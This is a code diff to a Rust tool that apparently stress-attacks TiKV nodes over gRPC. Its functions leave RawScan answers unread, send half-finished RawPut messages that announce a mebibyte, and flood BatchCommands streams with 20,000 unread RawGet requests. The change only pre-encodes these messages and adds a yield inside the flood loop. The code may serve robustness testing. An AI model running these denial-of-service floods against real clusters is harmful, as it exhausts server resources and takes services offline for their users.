@@ -13,6 +13,7 @@ use proto::tikvpb::batch_commands_request::{Request as Command, request::Cmd};
 use proto::tikvpb::tikv_client::TikvClient;
 use proto::tikvpb::{BatchCommandsRequest, BatchCommandsResponse};
 use std::io::Write;
+use std::sync::Arc;
 use std::time::{Duration, Instant};
 use tokio::io::AsyncWriteExt;
 use tokio::net::TcpStream;
@@ -157,13 +158,9 @@ async fn waste(requests: &mut SendRequest<Bytes>, path: &str, body: Bytes) -> Op
 pub type Open = (SendRequest<Bytes>, ResponseFuture, SendStream<Bytes>);
 
 /// A call whose answer is not read, and that is not ended if there is more to say.
-async fn call(
-    mut requests: SendRequest<Bytes>,
-    path: &str,
-    message: &impl Message,
-) -> Option<Open> {
+async fn call(mut requests: SendRequest<Bytes>, path: &str, said: Bytes) -> Option<Open> {
     let (answer, mut stream) = requests.send_request(request(path), false).ok()?;
-    stream.send_data(body(message), false).ok()?;
+    stream.send_data(said, false).ok()?;
     Some((requests, answer, stream))
 }
 
@@ -233,7 +230,7 @@ pub async fn unread_scan(victim: Victim) -> Option<Open> {
     let (requests, answer, mut stream) = call(
         victim.bare().await,
         "/tikvpb.Tikv/RawScan",
-        &victim.scan(ANSWER_VALUES),
+        body(&victim.scan(ANSWER_VALUES)),
     )
     .await?;
     stream.send_data(Bytes::new(), true).ok()?;
@@ -242,7 +239,12 @@ pub async fn unread_scan(victim: Victim) -> Option<Open> {
 
 /// A request that ends in the middle of its message.
 pub async fn half_said(victim: Victim) -> Option<Open> {
-    let mut open = call(victim.bare().await, "/tikvpb.Tikv/RawPut", &victim.get()).await?;
+    let mut open = call(
+        victim.bare().await,
+        "/tikvpb.Tikv/RawPut",
+        body(&victim.get()),
+    )
+    .await?;
     // The head of a second message, which is to have a mebibyte.
     open.2
         .send_data(Bytes::from_static(&[0, 0, 16, 0, 0, 1, 2, 3]), false)
@@ -250,24 +252,26 @@ pub async fn half_said(victim: Victim) -> Option<Open> {
     Some(open)
 }
 
-/// A stream with a flood of commands whose answers nobody takes.
-pub async fn unread_batches(victim: Victim) -> Option<Open> {
+/// What a stream says: a flood of commands, in a hundred messages.
+pub fn flood(victim: &Victim) -> Arc<[Bytes]> {
     let command = Command {
         cmd: Some(Cmd::RawGet(victim.get())),
     };
-    let batch = |first: u64| BatchCommandsRequest {
+    let batch = |number: u64| BatchCommandsRequest {
         requests: vec![command.clone(); 200],
-        request_ids: (first..first + 200).collect(),
+        request_ids: (number * 200..(number + 1) * 200).collect(),
     };
+    (0..100).map(|number| body(&batch(number))).collect()
+}
+
+/// A stream with a flood of commands whose answers nobody takes.
+pub async fn unread_batches(victim: Victim, flood: Arc<[Bytes]>) -> Option<Open> {
     let path = "/tikvpb.Tikv/BatchCommands";
-    let mut open = call(victim.bare().await, path, &batch(0)).await?;
-    for number in 1..100 {
-        let message = batch(number * 200);
-        let mut body = vec![0];
-        body.extend((message.encoded_len() as u32).to_be_bytes());
-        body.extend(message.encode_to_vec());
+    let mut open = call(victim.bare().await, path, flood[0].clone()).await?;
+    for said in &flood[1..] {
+        tokio::task::yield_now().await;
         // It waits here in this process once the node takes no more.
-        open.2.send_data(body.into(), false).ok()?;
+        open.2.send_data(said.clone(), false).ok()?;
     }
     Some(open)
 }
